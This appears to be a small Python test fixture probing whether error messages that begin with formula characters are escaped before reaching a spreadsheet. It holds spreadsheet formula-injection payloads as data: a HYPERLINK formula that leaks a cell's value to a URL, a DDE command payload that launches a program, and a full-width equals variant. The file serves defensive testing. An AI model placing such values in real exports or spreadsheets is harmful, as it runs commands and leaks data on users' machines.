# id: P05
# technique: messages that begin with = + - @, tabs and full-width signs
# must not: a spreadsheet runs one
# stops: such cells get an apostrophe
# layers: none
# twin: reports/P01-markup-in-errors

# %%
raise ValueError("=HYPERLINK(\"http://127.0.0.1/?\"&A1)")
# %%
def neuron(x, w, b): raise ValueError("\t=cmd|'/c calc'!A1")
def softmax(Z): raise ValueError("＝1+1")
